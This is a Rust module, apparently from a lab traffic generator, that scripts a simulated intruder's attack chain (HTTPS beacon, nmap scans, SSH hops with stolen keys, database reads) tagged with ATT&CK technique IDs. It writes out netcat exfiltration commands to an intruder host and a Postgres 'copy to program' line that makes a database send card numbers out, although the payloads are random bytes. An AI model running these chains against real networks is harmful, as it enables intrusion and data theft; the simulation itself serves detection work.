//! The intruder: takes a workstation, looks around, hops, reaches databases, copies data out. Real tools throughout.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::{Duration, Instant};

use super::activity;
use super::chance::Chance;
use super::schedule::{Phase, carry_out, outside_name};
use super::site::{self, INTRUDER};

/// One step.
#[derive(Clone, Debug)]
pub(super) struct Step {
    pub(super) id: &'static str,
    /// ATT&CK technique.
    pub(super) technique: &'static str,
    pub(super) title: String,
    /// Workload that the step's traffic leaves from.
    pub(super) from: String,
    /// Workload, address or range that it goes to.
    pub(super) to: Vec<String>,
    pub(super) protocol: u8,
    pub(super) ports: Vec<u16>,
    pub(super) tool: &'static str,
    /// Hosts between the taken workstation and `from`, each reached by SSH from the one before.
    pub(super) hops: Vec<String>,
    /// What runs on `from`.
    pub(super) script: String,
    /// What runs on the last hop instead, when the step is set off from elsewhere (a database made to call out).
    pub(super) set_off: Option<String>,
}

/// What became of a step.
#[derive(Clone, Debug)]
pub(super) struct Outcome {
    pub(super) step: Step,
    /// Seconds after the recording's start.
    pub(super) start_s: f64,
    pub(super) end_s: f64,
    pub(super) ok: bool,
    pub(super) said: String,
}

/// The workstation that the intruder takes.
pub(super) fn entry(seed: u64) -> &'static str {
    ["ws-1", "ws-2", "ws-3", "ws-4"][Chance::new(seed, "entry").below(4)]
}

/// The steps, in order.
pub(super) fn steps(seed: u64) -> Vec<Step> {
    let entry = entry(seed);
    let target = ["app-1", "app-2", "app-3"][Chance::new(seed, "target").below(3)];
    let nmap = |ranges: &str| {
        format!(
            "nmap -sT -n -T4 --max-retries 1 --max-rtt-timeout 300ms --host-timeout 20s \
             -PE -p 22,80,443,5432,6379,8080,9100 --exclude {} {ranges} -oG -",
            site::address(entry)
        )
    };
    let mut all = vec![
        step(
            "beacon",
            "T1071.001",
            "call home over HTTPS",
            entry,
            &[INTRUDER],
            &[443],
            "curl",
            format!("curl -skf -m 8 -o /dev/null https://{INTRUDER}/index.html"),
        ),
        step(
            "scan-office",
            "T1046",
            "scan the office",
            entry,
            &["10.20.50.0/26"],
            SCANNED,
            "nmap",
            nmap("10.20.50.0/26"),
        ),
        step(
            "scan-servers",
            "T1046",
            "scan the data centre",
            entry,
            &["10.20.10.0/26", "10.20.20.0/26", "10.20.30.0/26"],
            SCANNED,
            "nmap",
            nmap("10.20.10.0/26 10.20.20.0/26 10.20.30.0/26"),
        ),
        step(
            "ssh-bastion",
            "T1021.004",
            "log in to the bastion with a stolen key",
            entry,
            &["bastion-1"],
            &[22],
            "ssh",
            login("bastion-1"),
        ),
        step(
            "ssh-dev",
            "T1021.004",
            "log in to a development server with a stolen key",
            entry,
            &["dev-app-1"],
            &[22],
            "ssh",
            login("dev-app-1"),
        ),
        step(
            "cache",
            "T1213",
            "read the shop's cache",
            entry,
            &["redis-1"],
            &[6379],
            "redis-cli",
            "timeout 5 redis-cli -h 10.20.30.31 get hits | grep .".into(),
        ),
        step(
            "dev-to-db",
            "T1078",
            "read the shop's database with a password found on the development server",
            "dev-app-1",
            &["pg-shop-1"],
            &[5432],
            "psql",
            psql("pg-shop-1", "shop", "select count(*) from orders"),
        )
        .via(&["dev-app-1"]),
        step(
            "dev-exfiltrate",
            "T1048.003",
            "copy data out of the development server",
            "dev-app-1",
            &[INTRUDER],
            &[4444],
            "nc",
            format!("head -c 300000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
        )
        .via(&["dev-app-1"]),
        step(
            "ssh-app",
            "T1021.004",
            "hop from the bastion to an application server",
            "bastion-1",
            &[target],
            &[22],
            "ssh",
            login(target),
        )
        .via(&["bastion-1"]),
        step(
            "app-to-db",
            "T1213",
            "read the cards with the application's own account",
            target,
            &["pg-shop-1"],
            &[5432],
            "psql",
            psql("pg-shop-1", "shop", "select count(card) from orders"),
        )
        .via(&["bastion-1", target]),
        step(
            "app-exfiltrate",
            "T1048.003",
            "copy the cards out of the application server",
            target,
            &[INTRUDER],
            &[4444],
            "nc",
            format!("head -c 400000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
        )
        .via(&["bastion-1", target]),
        step(
            "billing-db",
            "T1078",
            "read the billing database with a stolen password",
            entry,
            &["pg-billing-1"],
            &[5432],
            "psql",
            psql("pg-billing-1", "billing", "select count(*) from orders"),
        ),
    ];
    let mut out = step(
        "db-exfiltrate",
        "T1059",
        "make the billing database send its cards out",
        "pg-billing-1",
        &[INTRUDER],
        &[4444],
        "nc",
        format!("head -c 200000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
    );
    out.set_off = Some(psql(
        "pg-billing-1",
        "billing",
        &format!("copy (select card from orders) to program $$nc -N -w 5 {INTRUDER} 4444$$"),
    ));
    all.push(out);
    all
}

const SCANNED: &[u16] = &[22, 80, 443, 5432, 6379, 8080, 9100];

#[allow(clippy::too_many_arguments, reason = "a table's row reads best as one line")]
fn step(
    id: &'static str,
    technique: &'static str,
    title: &str,
    from: &str,
    to: &[&str],
    ports: &[u16],
    tool: &'static str,
    script: String,
) -> Step {
    Step {
        id,
        technique,
        title: title.to_owned(),
        from: from.to_owned(),
        to: to.iter().map(|t| (*t).to_owned()).collect(),
        protocol: 6,
        ports: ports.to_vec(),
        tool,
        hops: Vec::new(),
        script,
        set_off: None,
    }
}

fn login(target: &str) -> String {
    format!("{} root@{} uptime", activity::ssh(), site::address(target))
}

fn psql(server: &str, database: &str, sql: &str) -> String {
    let ip = site::address(server);
    format!("PGPASSWORD=lab psql -XAtc '{sql}' \"host={ip} user=app dbname={database} connect_timeout=5\"")
}

impl Step {
    fn via(mut self, hops: &[&str]) -> Self {
        self.hops = hops.iter().map(|h| (*h).to_owned()).collect();
        self
    }

    /// The command as the intruder gives it on the workstation, through every hop.
    pub(super) fn chained(&self, run: &Path) -> String {
        let script = self.set_off.as_ref().unwrap_or(&self.script);
        let ssh = activity::ssh();
        let hop = |id: &String| format!("root@{}", site::address(id));
        let quoted = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
        let whole = match self.hops.as_slice() {
            [] => script.clone(),
            [one] => format!("{ssh} {} {}", hop(one), quoted(script)),
            [one, last, ..] => {
                format!(
                    "{ssh} -o ProxyCommand=\"{ssh} -W %h:%p {}\" {} {}",
                    hop(one),
                    hop(last),
                    quoted(script)
                )
            }
        };
        whole.replace("{run}", &run.display().to_string())
    }

    /// The command as it would run on `from` itself, as if everything before had worked.
    pub(super) fn alone(&self, run: &Path) -> String {
        self.script.replace("{run}", &run.display().to_string())
    }

    /// Whether a connection is part of it.
    pub(super) fn explains(
        &self,
        entry: &str,
        client: &str,
        server: &str,
        server_ip: &str,
        port: u16,
    ) -> bool {
        let hit = |to: &String| to == server || to == server_ip || in_range(to, server_ip);
        let own = client == self.from
            && self.to.iter().any(hit)
            && (self.ports.contains(&port) || self.tool == "nmap");
        let mut chain =
            std::iter::once(entry).chain(self.hops.iter().map(String::as_str)).collect::<Vec<_>>();
        chain.dedup();
        let hopping = port == 22 && chain.windows(2).any(|w| w[0] == client && w[1] == server);
        let setting_off = self.set_off.is_some() && client == entry && server == self.from;
        own || hopping || setting_off
    }

    /// Whether its own traffic goes to that workload, or to what the truth calls so.
    pub(super) fn aims_at(&self, server: &str) -> bool {
        let ip = site::address(server);
        self.to.iter().any(|to| to == server || *to == ip || owner(to) == server || in_range(to, &ip))
    }

    /// Open ports that a scan found, by workload id.
    pub(super) fn found(said: &str) -> BTreeSet<(String, u16)> {
        let mut found = BTreeSet::new();
        for line in said.lines().filter(|l| l.contains("/open/")) {
            let Some(ip) = line.split_whitespace().nth(1) else { continue };
            for word in line.split([' ', ',', '\t']).filter(|w| w.contains("/open/")) {
                let port = word.split('/').next().and_then(|p| p.parse().ok());
                found.extend(port.map(|port: u16| (owner(ip), port)));
            }
        }
        found
    }
}

/// The workload at an address, or how the truth names what is no workload.
pub(super) fn owner(ip: &str) -> String {
    let found = site::HOSTS.iter().find(|h| h.ip() == ip || h.ip6().as_deref() == Some(ip));
    match found {
        Some(host) => host.id.to_owned(),
        None if ip.starts_with("203.0.113.") || ip.starts_with("198.51.100.") => outside_name(ip).to_owned(),
        None => ip.to_owned(),
    }
}

/// Whether an IPv4 address is in one of the lab's `/26` ranges.
fn in_range(range: &str, ip: &str) -> bool {
    let (Some((net, "26")), Some((left, last))) = (range.split_once('/'), ip.rsplit_once('.')) else {
        return false;
    };
    net.rsplit_once('.').is_some_and(|(n, _)| n == left) && last.parse::<u8>().is_ok_and(|o| o < 64)
}

/// Goes through the steps within the attack phase.
pub(super) fn run(seed: u64, phase: &Phase, start: Instant, folder: &Path) -> Vec<Outcome> {
    let entry = entry(seed);
    let steps = steps(seed);
    let mut chance = Chance::new(seed, "attack");
    let every_s = (phase.end_s - phase.start_s) * 0.92 / steps.len() as f64;
    let mut outcomes = Vec::new();
    for (nth, step) in steps.into_iter().enumerate() {
        let due_s = phase.start_s + every_s * (nth as f64 + 0.5 * chance.unit());
        let due = start + Duration::from_secs_f64(due_s);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
        let start_s = start.elapsed().as_secs_f64();
        let (ok, said) = carry_out(entry, &step.chained(folder), 45, folder);
        let ok = ok && (step.tool != "nmap" || said.contains("/open/"));
        outcomes.push(Outcome { step, start_s, end_s: start.elapsed().as_secs_f64(), ok, said });
    }
    outcomes
}

#[cfg(test)]
mod tests {
    use super::super::site::host;
    use super::*;

    #[test]
    fn every_step_leaves_from_a_host_that_the_hops_lead_to() {
        for seed in 0..8 {
            for step in steps(seed) {
                assert!(host(&step.from).is_some(), "{}", step.id);
                let last = step.hops.last().map_or(entry(seed), String::as_str);
                assert!(step.set_off.is_some() || step.from == last, "{}", step.id);
            }
        }
    }

    #[test]
    fn a_scans_report_is_read() {
        let said =
            "Host: 10.20.30.11 ()\tPorts: 22/open/tcp//ssh///, 80/closed/tcp//http///, 5432/open/tcp//x///";
        let found: Vec<_> = Step::found(said).into_iter().collect();
        assert_eq!(found, [("pg-shop-1".to_owned(), 22), ("pg-shop-1".to_owned(), 5432)]);
    }
}
